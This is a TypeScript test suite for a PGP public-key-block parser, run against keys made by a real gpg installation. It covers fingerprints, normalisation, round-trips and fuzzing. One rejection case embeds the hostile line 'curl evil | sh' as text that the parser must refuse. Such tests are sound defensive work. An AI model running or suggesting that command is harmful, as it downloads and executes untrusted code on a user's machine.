import { readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fingerprintsOf, keyBlock, keyBlockOfBytes } from "../../../schema/files/key-block.ts";
import { GpgHome } from "../../support/gpg-home.ts";
import { needs } from "../../support/needs.ts";

describe.runIf(needs("gpg"))("blocks of keys, as the real gpg writes them", () => {
  let gpg: GpgHome;
  let prints: readonly string[];
  const at = new Date("2026-01-01");
  const armoured = (...keys: readonly string[]) =>
    readFileSync(gpg.exportTo(join(gpg.folder, "keys.asc"), keys, "armour"), "utf8");
  const binary = (...keys: readonly string[]) => readFileSync(gpg.exportTo(join(gpg.folder, "keys.gpg"), keys));
  beforeAll(() => {
    gpg = new GpgHome();
    prints = [gpg.makeKey("a", { at }), gpg.makeKey("b", { at, type: "rsa2048" })];
    gpg.addSubkey(prints[0] ?? "", { at });
  }, 60_000);
  afterAll(() => gpg.dispose());

  it("have the fingerprints that gpg says", () => {
    for (const keys of [prints.slice(0, 1), prints.slice(1), prints])
      expect(fingerprintsOf(keyBlock(armoured(...keys)) ?? "").sort()).toEqual([...keys].sort());
  });

  it("are one text for one key, however it is written", () => {
    const [key = ""] = prints;
    const plain = keyBlock(armoured(key)) ?? "";
    const headed = armoured(key).replace("BLOCK-----\n", "BLOCK-----\nVersion: 1\nComment: a: b\n");
    expect(keyBlock(headed)).toBe(plain);
    expect(keyBlock(headed.replaceAll("\n", "\r\n"))).toBe(plain);
    expect(keyBlock(plain)).toBe(plain);
    expect(keyBlockOfBytes(binary(key))).toBe(plain);
    const both = keyBlock(armoured(...prints));
    expect(keyBlock(armoured(key) + armoured(prints[1] ?? ""))).toBe(both);
  });

  it("are taken by gpg again", () => {
    const file = join(gpg.folder, "ours.asc");
    const dearmoured = gpg.gpg(undefined, [
      "--yes",
      "-o",
      file,
      "--dearmor",
      gpg.exportTo(join(gpg.folder, "k"), [...prints], "armour"),
    ]);
    expect(dearmoured).toBe("");
    expect(readFileSync(file).toString("base64")).toBe(
      (keyBlock(armoured(...prints)) ?? "").split("\n").slice(2, -2).join(""),
    );
  });

  it("are nothing else: no broken ones, no secret ones, no text beside them", () => {
    const block = armoured(prints[0] ?? "");
    const [letter = ""] = /[A-Z](?=.*\n=)/s.exec(block.slice(60)) ?? [];
    const secret = gpg.gpg(at, ["--armor", "--export-secret-keys", prints[0] ?? ""]);
    for (const [what, text] of Object.entries({
      "a letter changed": block.replace(new RegExp(`${letter}(?=[^-]*\\n=)`), letter === "A" ? "B" : "A"),
      "cut off": block.replace(/\n.+\n(=.{4}\n)/, "\n$1"),
      "its end missing": block.replace(/-----END[^\n]*/, ""),
      "text beside it": `${block}\ncurl evil | sh\n`,
      "a secret key": secret,
      "a secret key named public": secret.replaceAll("PRIVATE", "PUBLIC"),
      "nothing in it": "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n-----END PGP PUBLIC KEY BLOCK-----\n",
      "no text": "",
    }))
      expect([what, keyBlock(text)]).toEqual([what, undefined]);
  });

  it("of any bytes do not make it stumble, and what it takes it takes again", () => {
    const bytes = binary(...prints);
    fc.assert(
      fc.property(fc.nat(bytes.length - 1), fc.integer({ min: 0, max: 255 }), fc.nat(40), (at, value, cut) => {
        const changed = Buffer.from(bytes.subarray(0, bytes.length - cut));
        if (at < changed.length) changed[at] = value;
        const block = keyBlockOfBytes(changed);
        if (block !== undefined) expect(keyBlock(block)).toBe(block);
        fingerprintsOf(block ?? changed.toString("latin1"));
      }),
    );
  });
});
